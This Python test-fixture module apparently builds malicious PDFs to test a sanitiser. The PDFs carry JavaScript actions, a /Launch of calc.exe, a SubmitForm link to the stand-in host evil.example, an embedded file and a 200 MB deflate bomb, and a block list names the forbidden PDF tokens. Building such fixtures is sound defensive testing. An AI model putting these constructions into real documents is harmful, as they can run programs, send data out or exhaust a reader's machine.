"""PDFs as an attacker would send them: scripts and actions at every level, an embedded file, a deflate bomb."""
from __future__ import annotations

import io
import zlib

from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    EncodedStreamObject,
    NameObject,
    RectangleObject,
    TextStringObject,
)

# what no stored PDF may hold: scripts, actions that run or open something, files inside the file
# (and no trace of the scripts' or the launched program's text, which pypdf writes with escaped dots)
FORBIDDEN = (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/OpenAction", b"/AA", b"/FileAttachment",
             b"/SubmitForm", b"calc", b"alert")


def _d(**kw: object) -> DictionaryObject:
    return DictionaryObject({NameObject("/" + k): v for k, v in kw.items()})  # type: ignore[misc]  # PdfObjects


def _js(code: str) -> DictionaryObject:
    return _d(S=NameObject("/JavaScript"), JS=TextStringObject(code))


def with_scripts() -> bytes:
    """One page; JavaScript on open, in the names tree, on the page and in a form field; a launch link, a
    submit-form link, a file attachment (embedded file and annotation), and one plain web link."""
    w = PdfWriter()
    page = w.add_blank_page(width=595, height=842)
    w.add_attachment("payload.txt", b"calc.exe")
    root = w._root_object
    root[NameObject("/OpenAction")] = _js("app.alert('open')")
    names = root.setdefault(NameObject("/Names"), DictionaryObject()).get_object()
    names[NameObject("/JavaScript")] = _d(Names=ArrayObject([TextStringObject("x"), w._add_object(_js("app.alert(1)"))]))
    page[NameObject("/AA")] = _d(O=_js("app.alert('page')"))
    rect = RectangleObject([0, 0, 100, 100])
    annots = [
        _d(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), Rect=rect,
           A=_d(S=NameObject("/Launch"), F=TextStringObject("calc.exe"))),
        _d(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), Rect=rect,
           A=_d(S=NameObject("/URI"), URI=TextStringObject("https://www.1177.se"), Next=_js("app.alert('next')"))),
        _d(Type=NameObject("/Annot"), Subtype=NameObject("/Link"), Rect=rect,
           A=_d(S=NameObject("/SubmitForm"), F=TextStringObject("https://evil.example"))),
        _d(Type=NameObject("/Annot"), Subtype=NameObject("/Widget"), Rect=rect, FT=NameObject("/Tx"),
           AA=_d(K=_js("app.alert('keystroke')"))),
        _d(Type=NameObject("/Annot"), Subtype=NameObject("/FileAttachment"), Rect=rect,
           FS=_d(Type=NameObject("/Filespec"), F=TextStringObject("calc.exe"))),
    ]
    page[NameObject("/Annots")] = ArrayObject([w._add_object(a) for a in annots])
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()


def bomb(inflated_mb: int = 200) -> bytes:
    """A page whose content stream is `inflated_mb` MB of zeros deflated to a few hundred KB."""
    w = PdfWriter()
    page = w.add_blank_page(width=595, height=842)
    stream = EncodedStreamObject()
    stream._data = zlib.compress(b"0" * (inflated_mb * 1024 * 1024), 9)
    stream[NameObject("/Filter")] = NameObject("/FlateDecode")
    page[NameObject("/Contents")] = w._add_object(stream)
    out = io.BytesIO()
    w.write(out)
    return out.getvalue()
